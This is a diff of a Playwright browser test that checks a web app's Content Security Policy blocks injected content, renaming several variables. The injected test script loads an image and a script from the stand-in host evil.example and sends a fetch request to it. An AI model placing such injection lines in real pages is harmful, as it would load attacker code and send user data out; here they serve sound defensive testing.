@@ -2,10 +2,10 @@
 
 from playwright.sync_api import Browser, expect
 
-from tests.browser.conftest import POLICY, drawn
+from tests.browser.conftest import POLICY, wait_until_drawn
 from tests.support import make
 
-INJECTED = """() => {
+INJECT_SCRIPT = """() => {
     const add = (kind, fields) => document.body.append(Object.assign(document.createElement(kind), fields));
     add('img', {src: 'https://evil.example/pixel.png'});
     add('script', {src: 'https://evil.example/script.js'});
@@ -15,8 +15,8 @@ INJECTED = """() => {
     fetch('https://evil.example/out').catch(() => {});
 }"""
 # Streamlit multiplies large numbers in WebAssembly where it may, and without where it may not.
-GONE_WITHOUT = ["script-src wasm-eval"]
-WATCH = """document.addEventListener('securitypolicyviolation', told => {
+EXPECTED_VIOLATIONS = ["script-src wasm-eval"]
+WATCH_SCRIPT = """document.addEventListener('securitypolicyviolation', told => {
     (window.blocked ||= []).push(`${told.effectiveDirective} ${told.blockedURI}`);
 })"""
 
@@ -27,16 +27,16 @@ def test_what_is_brought_into_a_page_from_elsewhere_neither_loads_nor_runs(chrom
     told: list[str] = []
     with chromium.new_context() as context:
         page = context.new_page()
-        page.add_init_script(WATCH)
+        page.add_init_script(WATCH_SCRIPT)
         page.on("requestfinished", lambda request: asked.append(request.url))
         page.on("console", lambda each: told.append(each.text))
         typed = {"email": person.email, "password": make.PASSWORD}
         assert context.request.post(f"{live_server}/session/sign-in", form=typed).ok
         page.goto(f"{live_server}/events")
-        drawn(page)
-        assert page.evaluate("window.blocked") == GONE_WITHOUT
+        wait_until_drawn(page)
+        assert page.evaluate("window.blocked") == EXPECTED_VIOLATIONS
 
-        page.evaluate(INJECTED)
+        page.evaluate(INJECT_SCRIPT)
         page.wait_for_function("() => window.blocked.length >= 7")
 
         assert sorted(page.evaluate("window.blocked.slice(1)")) == [
